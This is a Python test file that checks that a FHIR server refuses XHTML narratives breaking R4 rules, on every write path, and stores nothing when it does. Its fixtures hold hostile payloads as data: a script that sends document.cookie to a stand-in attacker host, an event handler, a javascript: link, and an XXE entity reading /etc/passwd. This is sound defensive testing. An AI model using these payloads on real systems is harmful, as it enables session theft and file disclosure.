"""The FHIR API refuses narratives that break R4 txt-1/txt-2, on every write path, and stores nothing."""

import uuid

import pytest

from tests.web.fhir_helpers import patient, send, table_counts

X = 'xmlns="http://www.w3.org/1999/xhtml"'
SCRIPT = f"<div {X}><p>Notes</p><script>fetch('https://evil.example/?c='+document.cookie)</script></div>"
EVENT = f'<div {X}><p onmouseover="steal()">Notes</p></div>'
JS_LINK = f'<div {X}><a href="javascript:steal()">Open the plan</a></div>'
DOCTYPE = f'<!DOCTYPE div [<!ENTITY x SYSTEM "file:///etc/passwd">]><div {X}>&x;</div>'
BLANK = f"<div {X}> <p>  </p> </div>"
GOOD = f'<div {X}><p>Goals: <b>home</b></p><a href="https://example.org/plan">plan</a></div>'


@pytest.fixture
def client(fhir_client):
    return fhir_client


def data_counts(app):
    """Row counts of every table but the audit trail's, which records refused requests too."""
    return {name: n for name, n in table_counts(app).items() if not name.startswith("audit_")}


def narrative(div):
    return {"status": "generated", "div": div}


def issue(resp):
    body = resp.get_json()
    assert body["resourceType"] == "OperationOutcome", body
    return body["issue"][0]


@pytest.mark.parametrize(
    ("div", "rule"),
    [(SCRIPT, "txt-1"), (EVENT, "txt-1"), (JS_LINK, "txt-1"), (DOCTYPE, "txt-1"), (BLANK, "txt-2")],
)
def test_create_refuses_a_bad_narrative_naming_the_element(app, client, div, rule):
    before = data_counts(app)
    resp = send(client, "POST", "/fhir/Patient", patient("N-1", text=narrative(div)))
    assert resp.status_code == 400
    found = issue(resp)
    assert found["expression"] == ["Patient.text.div"] and rule in found["diagnostics"]
    assert found["code"] == "invariant"
    assert data_counts(app) == before


def test_update_and_conditional_update_refuse_and_keep_the_stored_version(app, client):
    created = send(client, "POST", "/fhir/Patient", patient("N-2", text=narrative(GOOD)))
    assert created.status_code == 201, created.get_json()
    pid = created.get_json()["id"]
    before = data_counts(app)
    bad = {**patient("N-2", text=narrative(EVENT)), "id": pid}
    resp = send(client, "PUT", f"/fhir/Patient/{pid}", bad)
    assert resp.status_code == 400 and issue(resp)["expression"] == ["Patient.text.div"]
    resp = send(client, "PUT", "/fhir/Patient?identifier=urn:oid:1.2.3|N-2", bad)
    assert resp.status_code == 400 and issue(resp)["expression"] == ["Patient.text.div"]
    assert data_counts(app) == before
    stored = send(client, "GET", f"/fhir/Patient/{pid}").get_json()
    assert stored["meta"]["versionId"] == "1" and stored["text"]["div"] == GOOD


def test_composition_sections_at_any_depth_and_contained_resources_are_checked(app, client):
    pid = send(client, "POST", "/fhir/Patient", patient("N-3")).get_json()["id"]
    note = {
        "resourceType": "Composition",
        "status": "final",
        "type": {"text": "Progress note"},
        "subject": {"reference": f"Patient/{pid}"},
        "date": "2025-03-04",
        "author": [{"display": "Dr. EHR"}],
        "title": "Note",
        "text": narrative(GOOD),
        "section": [
            {"title": "Plan", "text": narrative(GOOD)},
            {"title": "Goals", "section": [{"title": "Home", "text": narrative(JS_LINK)}]},
        ],
    }
    before = data_counts(app)
    resp = send(client, "POST", "/fhir/Composition", note)
    assert resp.status_code == 400
    assert issue(resp)["expression"] == ["Composition.section[1].section[0].text.div"]
    observation = {
        "resourceType": "Observation",
        "status": "final",
        "code": {"text": "Note"},
        "subject": {"reference": f"Patient/{pid}"},
        "contained": [{"resourceType": "Practitioner", "text": narrative(SCRIPT)}],
        "text": narrative(GOOD),
    }
    resp = send(client, "POST", "/fhir/Observation", observation)
    assert resp.status_code == 400
    assert issue(resp)["expression"] == ["Observation.contained[0].text.div"]
    assert data_counts(app) == before
    good_note = {**note, "section": [note["section"][0]]}
    assert send(client, "POST", "/fhir/Composition", good_note).status_code == 201


def test_a_transaction_with_one_bad_narrative_stores_nothing(app, client):
    p = f"urn:uuid:{uuid.uuid4()}"
    bundle = {
        "resourceType": "Bundle",
        "type": "transaction",
        "entry": [
            {
                "fullUrl": p,
                "resource": patient("N-4", text=narrative(GOOD)),
                "request": {"method": "POST", "url": "Patient"},
            },
            {
                "resource": {
                    "resourceType": "Observation",
                    "status": "final",
                    "code": {"text": "Note"},
                    "subject": {"reference": p},
                    "text": narrative(SCRIPT),
                },
                "request": {"method": "POST", "url": "Observation"},
            },
        ],
    }
    before = data_counts(app)
    resp = send(client, "POST", "/fhir", bundle)
    assert resp.status_code == 400
    assert issue(resp)["expression"] == ["Bundle.entry[1].resource.text.div"]
    assert data_counts(app) == before


def test_a_batch_refuses_the_bad_entry_only(app, client):
    bundle = {
        "resourceType": "Bundle",
        "type": "batch",
        "entry": [
            {
                "resource": patient("N-5", text=narrative(GOOD)),
                "request": {"method": "POST", "url": "Patient"},
            },
            {
                "resource": patient("N-6", text=narrative(EVENT)),
                "request": {"method": "POST", "url": "Patient"},
            },
        ],
    }
    before = table_counts(app)["resource"]
    resp = send(client, "POST", "/fhir", bundle)
    assert resp.status_code == 200
    first, second = resp.get_json()["entry"]
    assert first["response"]["status"] == "201 Created"
    assert second["response"]["status"] == "400"
    assert second["response"]["outcome"]["issue"][0]["expression"] == ["Bundle.entry[1].resource.text.div"]
    assert table_counts(app)["resource"] == before + 1
    found = send(client, "GET", "/fhir/Patient?identifier=urn:oid:1.2.3|N-6").get_json()
    assert found["total"] == 0
